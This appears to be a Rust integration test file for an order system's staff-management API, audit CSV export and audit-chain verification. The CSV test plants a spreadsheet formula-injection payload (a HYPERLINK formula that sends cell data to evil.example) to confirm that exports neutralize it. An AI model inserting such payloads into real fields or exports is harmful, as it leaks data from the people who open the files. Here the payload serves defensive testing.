//! Staff management by shop owners (permissions apply on the staff member's next request,
//! disabling and password resets end sessions, other shops' staff look absent) and the audit
//! trail's CSV export and verification endpoint.

use orderveil_api::{AuditVerifyReport, RevealGrantResponse, SessionInfo, StaffMember};
use serde_json::{Value, json};

use crate::helpers::*;

both_stores!(
    owner_manages_staff_and_changes_apply_on_the_next_request,
    staff_of_another_shop_look_absent_and_only_owners_manage_staff,
    audit_csv_export_is_filtered_scoped_and_formula_safe,
    audit_verify_endpoint_reports_tampering_in_the_callers_chains,
);

async fn create(owner: &Client, username: &str, password: &str, perms: &[&str]) -> Resp {
    owner.post("/api/v1/staff", &json!({"username": username, "password": password, "permissions": perms})).await
}

/// The raw body of a GET.
async fn get_bytes(c: &Client, path: &str) -> (u16, Option<String>, Vec<u8>) {
    let r = c.http.get(c.url(path)).send().await.unwrap();
    let status = r.status().as_u16();
    let ct = r.headers().get("content-type").and_then(|v| v.to_str().ok()).map(str::to_string);
    (status, ct, r.bytes().await.unwrap().to_vec())
}

async fn verify_ok(app: &TestApp) {
    let (ok, out) = app.audit_verify().await;
    assert!(ok && out.contains("OK: every chain verifies"), "{out}");
}

async fn owner_manages_staff_and_changes_apply_on_the_next_request(store: Store) {
    let app = TestApp::spawn(store).await;
    let owner = app.login("shop1").await;

    // Create: the account logs in and reveals.
    let m: StaffMember = create(&owner, "s1-packer", "packer-pass-1", &["view", "reveal", "view"]).await.ok();
    assert_eq!((m.username.as_str(), m.disabled), ("s1-packer", false));
    assert_eq!(m.permissions, [orderveil_api::Permission::View, orderveil_api::Permission::Reveal]);
    let staff = login_with(&app, "s1-packer", "packer-pass-1").await;
    assert_eq!(staff.user.shop_id.as_deref(), Some("shop1"));
    let _: RevealGrantResponse = staff.reveal(&["S1-AWAIT-1"], &["phone"]).await.1.ok();
    let list: Vec<StaffMember> = owner.get("/api/v1/staff").await.ok();
    let names: Vec<&str> = list.iter().map(|s| s.username.as_str()).collect();
    assert_eq!(names, ["shop1-ops", "shop1-staff", "s1-packer"]);

    // Validation and unique names (across shops and roles).
    create(&owner, "s1-packer", "another-pass", &["view"]).await.err(409, "USERNAME_TAKEN");
    create(&owner, "shop2", "another-pass", &["view"]).await.err(409, "USERNAME_TAKEN");
    for bad in ["ab", "Upper", "has space", "=HYPERLINK", &"x".repeat(33)] {
        create(&owner, bad, "long-enough-1", &["view"]).await.err(422, "VALIDATION_FAILED");
    }
    create(&owner, "s1-short", "short", &["view"]).await.err(422, "PASSWORD_LENGTH");
    create(&owner, "s1-named", "S1-Named-Pass", &["view"]).await.err(422, "PASSWORD_CONTAINS_USERNAME");
    create(&owner, "s1-unknown", "long-enough-1", &["fly"]).await.err(422, "VALIDATION_FAILED");

    // Taking `reveal` away: the same session's next grant request is refused.
    let m: StaffMember = owner.post(&format!("/api/v1/staff/{}", m.id), &json!({"permissions": ["view"]})).await.ok();
    assert_eq!(m.permissions, [orderveil_api::Permission::View]);
    staff.reveal(&["S1-AWAIT-1"], &["phone"]).await.1.err(403, "FORBIDDEN");
    let me: SessionInfo = staff.get("/api/v1/me").await.ok();
    assert_eq!(me.user.permissions, [orderveil_api::Permission::View]);
    assert!(!staff.orders("").await.orders.is_empty(), "view still works");
    owner.post(&format!("/api/v1/staff/{}", m.id), &json!({})).await.err(422, "VALIDATION_FAILED");

    // Disabling logs the account out at once and blocks logins; enabling lets it back in.
    let m: StaffMember = owner.post(&format!("/api/v1/staff/{}", m.id), &json!({"disabled": true})).await.ok();
    assert!(m.disabled);
    staff.get("/api/v1/me").await.err(401, "UNAUTHENTICATED");
    try_login(&app, "s1-packer", "packer-pass-1").await.1.err(401, "INVALID_CREDENTIALS");
    let _: StaffMember = owner.post(&format!("/api/v1/staff/{}", m.id), &json!({"disabled": false, "permissions": ["view", "reveal"]})).await.ok();
    staff.get("/api/v1/me").await.err(401, "UNAUTHENTICATED");
    let staff = login_with(&app, "s1-packer", "packer-pass-1").await;
    let _: RevealGrantResponse = staff.reveal(&["S1-AWAIT-2"], &["name"]).await.1.ok();

    // A password reset ends the old sessions; only the new password works.
    let second = login_with(&app, "s1-packer", "packer-pass-1").await;
    owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "short"})).await.err(422, "PASSWORD_LENGTH");
    owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "12345678"})).await.err(422, "PASSWORD_TOO_COMMON");
    let _: StaffMember = owner.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "new-secret-22"})).await.ok();
    staff.get("/api/v1/me").await.err(401, "UNAUTHENTICATED");
    second.get("/api/v1/me").await.err(401, "UNAUTHENTICATED");
    try_login(&app, "s1-packer", "packer-pass-1").await.1.err(401, "INVALID_CREDENTIALS");
    let staff = login_with(&app, "s1-packer", "new-secret-22").await;
    let _: SessionInfo = staff.get("/api/v1/me").await.ok();

    // Every change is in the shop's audit chain, without any password.
    let page = owner.audit("per_page=200").await;
    let actions: Vec<&str> = page.entries.iter().filter(|e| e.action.starts_with("staff_")).map(|e| e.action.as_str()).collect();
    assert_eq!(actions, ["staff_password_reset", "staff_update", "staff_update", "staff_update", "staff_create"], "newest first");
    for e in page.entries.iter().filter(|e| e.action.starts_with("staff_")) {
        assert_eq!((e.actor.as_str(), e.shop_id.as_deref(), e.outcome.as_str()), ("shop1", Some("shop1"), "ok"));
        assert_eq!(e.details["username"], json!("s1-packer"));
        let text = e.details.to_string();
        assert!(!text.contains("packer-pass") && !text.contains("new-secret"), "{text}");
    }
    let revoke = page.entries.iter().find(|e| e.details.get("permissions") == Some(&json!(["view"]))).unwrap();
    assert_eq!(revoke.details["permissions_before"], json!(["view", "reveal"]));
    let audit_text = page.entries.iter().map(|e| e.details.to_string()).collect::<String>();
    assert!(!audit_text.contains("packer-pass") && !audit_text.contains("new-secret"));
    verify_ok(&app).await;
}

async fn staff_of_another_shop_look_absent_and_only_owners_manage_staff(store: Store) {
    let app = TestApp::spawn(store).await;
    let owner1 = app.login("shop1").await;
    let m: StaffMember = create(&owner1, "s1-clerk", "clerk-pass-1", &["view"]).await.ok();
    let clerk = login_with(&app, "s1-clerk", "clerk-pass-1").await;

    // Another shop's owner: not listed, not changeable, not resettable.
    let owner2 = app.login("shop2").await;
    let list2: Vec<StaffMember> = owner2.get("/api/v1/staff").await.ok();
    assert!(list2.is_empty(), "{list2:?}");
    owner2.post(&format!("/api/v1/staff/{}", m.id), &json!({"permissions": ["view", "reveal"]})).await.err(404, "NOT_FOUND");
    owner2.post(&format!("/api/v1/staff/{}", m.id), &json!({"disabled": true})).await.err(404, "NOT_FOUND");
    owner2.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "takeover-123"})).await.err(404, "NOT_FOUND");
    // Nor an owner's own account or a missing id through the staff endpoints.
    owner1.post(&format!("/api/v1/staff/{}", owner1.user.id), &json!({"disabled": true})).await.err(404, "NOT_FOUND");
    owner1.post("/api/v1/staff/999999", &json!({"disabled": true})).await.err(404, "NOT_FOUND");
    let _: SessionInfo = clerk.get("/api/v1/me").await.ok();
    let me: SessionInfo = clerk.get("/api/v1/me").await.ok();
    assert_eq!(me.user.permissions, [orderveil_api::Permission::View]);

    // Staff (even with every permission), admins and factory staff do not manage staff; a
    // factory's owner manages only its factory's, so a shop's staff member looks absent.
    let f = app.login("factory1").await;
    f.get("/api/v1/staff").await.err(403, "FORBIDDEN");
    f.post(&format!("/api/v1/staff/{}", m.id), &json!({"permissions": ["reveal"]})).await.err(404, "NOT_FOUND");
    f.post(&format!("/api/v1/factory/staff/{}/password", m.id), &json!({"password": "sneaky-pass-1"})).await.err(404, "NOT_FOUND");
    for who in ["shop1-ops", "admin", "factory1-ops"] {
        let c = app.login(who).await;
        c.get("/api/v1/staff").await.err(403, "FORBIDDEN");
        create(&c, "s1-sneaky", "sneaky-pass-1", &["view", "reveal"]).await.err(403, "FORBIDDEN");
        c.post(&format!("/api/v1/staff/{}", m.id), &json!({"permissions": ["reveal"]})).await.err(403, "FORBIDDEN");
        c.post(&format!("/api/v1/staff/{}/password", m.id), &json!({"password": "sneaky-pass-1"})).await.err(403, "FORBIDDEN");
    }
    // Without the CSRF token a cookie-authenticated change is refused.
    let r = owner1.http.post(owner1.url("/api/v1/staff")).json(&json!({"username": "s1-csrf", "password": "csrf-pass-1", "permissions": []})).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 403);
    try_login(&app, "s1-sneaky", "sneaky-pass-1").await.1.err(401, "INVALID_CREDENTIALS");
    try_login(&app, "s1-csrf", "csrf-pass-1").await.1.err(401, "INVALID_CREDENTIALS");
    verify_ok(&app).await;
}

/// Split one CSV line into cells (quotes honoured).
fn cells(line: &str) -> Vec<String> {
    let (mut out, mut cur, mut quoted, mut chars) = (Vec::new(), String::new(), false, line.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cur.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => out.push(std::mem::take(&mut cur)),
            _ => cur.push(c),
        }
    }
    out.push(cur);
    out
}

async fn audit_csv_export_is_filtered_scoped_and_formula_safe(store: Store) {
    let app = TestApp::spawn(store).await;
    let owner = app.login("shop1").await;
    let _: StaffMember = create(&owner, "s1-export-a", "export-pass-1", &["view"]).await.ok();
    let _: StaffMember = create(&owner, "s1-export-b", "export-pass-1", &["view", "reveal"]).await.ok();
    let owner2 = app.login("shop2").await;
    let _: StaffMember = create(&owner2, "s2-export", "export-pass-1", &["view"]).await.ok();
    // A login lock of a name that is a formula is audited with that actor (platform chain).
    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    lock_out(&app, evil).await;
    lock_out(&app, "+SUM(1,2)").await;
    // Twenty failures from this address slow it down too: let that pass.
    app.clock.advance(orderveil_server::login_throttle::FORGET_SECS);

    // The owner's export: BOM, header, the filtered rows of the own shop only.
    let (status, ct, bytes) = get_bytes(&owner, "/api/v1/audit/export.csv?action=staff_create").await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    assert!(ct.unwrap_or_default().starts_with("text/csv"));
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 BOM");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(lines[0], "id,chain,seq,at,actor,shop_id,action,outcome,code,order_ids,details,hash");
    assert_eq!(lines.len(), 3, "{text}");
    for l in &lines[1..] {
        let c = cells(l);
        assert_eq!(c.len(), 12, "{l}");
        assert_eq!((c[1].as_str(), c[4].as_str(), c[5].as_str(), c[6].as_str(), c[7].as_str()), ("shop:shop1", "shop1", "shop1", "staff_create", "ok"));
        let details: Value = serde_json::from_str(&c[10]).unwrap();
        assert!(details["username"].as_str().unwrap().starts_with("s1-export-"));
    }
    // The same rows as the JSON list, in the same order.
    let page = owner.audit("action=staff_create").await;
    let ids: Vec<String> = page.entries.iter().map(|e| e.id.to_string()).collect();
    assert_eq!(lines[1..].iter().map(|l| cells(l)[0].clone()).collect::<Vec<_>>(), ids);
    // Unfiltered, the owner still sees only the own shop.
    let (_, _, all) = get_bytes(&owner, "/api/v1/audit/export.csv").await;
    let all = String::from_utf8(all[3..].to_vec()).unwrap();
    let rows: Vec<Vec<String>> = all.split("\r\n").skip(1).filter(|l| !l.is_empty()).map(cells).collect();
    assert_eq!(u64::try_from(rows.len()).unwrap(), owner.audit("").await.total);
    assert!(rows.iter().all(|c| c[5] == "shop1"), "{all}");
    assert!(!all.contains("s2-export") && !all.contains("HYPERLINK"));
    // Bad filters are coded errors; staff do not export.
    owner.get("/api/v1/audit/export.csv?from=yesterday").await.err(422, "VALIDATION_FAILED");
    owner.get("/api/v1/audit/export.csv?colour=red").await.err(422, "VALIDATION_FAILED");
    app.login("shop1-ops").await.get("/api/v1/audit/export.csv").await.err(403, "FORBIDDEN");

    // The admin's export of login locks: formulas are neutralized.
    let admin = app.login("admin").await;
    let (status, _, bytes) = get_bytes(&admin, "/api/v1/audit/export.csv?action=login_locked&outcome=refused").await;
    assert_eq!(status, 200);
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let rows: Vec<Vec<String>> = text.split("\r\n").skip(1).filter(|l| !l.is_empty()).map(cells).collect();
    assert_eq!(rows.len(), 2, "{text}");
    assert_eq!(rows[0][4], "'+SUM(1,2)");
    assert_eq!(rows[1][4], format!("'{evil}"));
    for row in &rows {
        assert_eq!((row[6].as_str(), row[7].as_str(), row[8].as_str()), ("login_locked", "refused", "LOGIN_LOCKED"));
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "unneutralized cell {cell:?}");
        }
    }
    // Admins filter by shop.
    let (_, _, bytes) = get_bytes(&admin, "/api/v1/audit/export.csv?shop_id=shop2&action=staff_create").await;
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert_eq!(text.split("\r\n").filter(|l| !l.is_empty()).count(), 2, "{text}");
    assert!(text.contains("s2-export"));
}

async fn audit_verify_endpoint_reports_tampering_in_the_callers_chains(store: Store) {
    let app = TestApp::spawn(store).await;
    let owner1 = app.login("shop1").await;
    let _: StaffMember = create(&owner1, "s1-verify", "verify-pass-1", &["view"]).await.ok();
    let owner2 = app.login("shop2").await;
    let admin = app.login("admin").await;

    let r: AuditVerifyReport = owner1.get("/api/v1/audit/verify").await.ok();
    assert!(r.ok && r.problems.is_empty() && r.chains == 1 && r.rows >= 3, "{r:?}");
    let all: AuditVerifyReport = admin.get("/api/v1/audit/verify").await.ok();
    assert!(all.ok && all.chains >= 3 && all.rows > r.rows, "{all:?}");
    app.login("shop1-ops").await.get("/api/v1/audit/verify").await.err(403, "FORBIDDEN");
    app.login("factory1-ops").await.get("/api/v1/audit/verify").await.err(403, "FORBIDDEN");
    // A factory's owner verifies its own chain only (none yet).
    let f: AuditVerifyReport = app.login("factory1").await.get("/api/v1/audit/verify").await.ok();
    assert!(f.ok && f.chains == 0, "{f:?}");
    // A shop without events has nothing to verify, and that is fine.
    let r3: AuditVerifyReport = app.login("shop3").await.get("/api/v1/audit/verify").await.ok();
    assert!(r3.ok, "{r3:?}");

    // Edit shop1's staff_create row with SQL.
    let done = sqlx::query("UPDATE audit SET details = $1 WHERE chain = 'shop:shop1' AND action = 'staff_create'")
        .bind(r#"{"staff_id":1,"username":"someone-else","permissions":["view","reveal"]}"#)
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(done.rows_affected(), 1);
    let r: AuditVerifyReport = owner1.get("/api/v1/audit/verify").await.ok();
    assert!(!r.ok && r.problems.len() == 1 && r.problems[0].contains("shop:shop1") && r.problems[0].contains("edited"), "{r:?}");
    let all: AuditVerifyReport = admin.get("/api/v1/audit/verify").await.ok();
    assert!(!all.ok && all.problems.iter().any(|p| p.contains("shop:shop1")), "{all:?}");
    // Another shop's chain is intact, and its owner is not told about shop1's.
    let r2: AuditVerifyReport = owner2.get("/api/v1/audit/verify").await.ok();
    assert!(r2.ok && r2.problems.is_empty(), "{r2:?}");
    let (ok, out) = app.audit_verify().await;
    assert!(!ok && out.contains("shop:shop1"), "{out}");
}
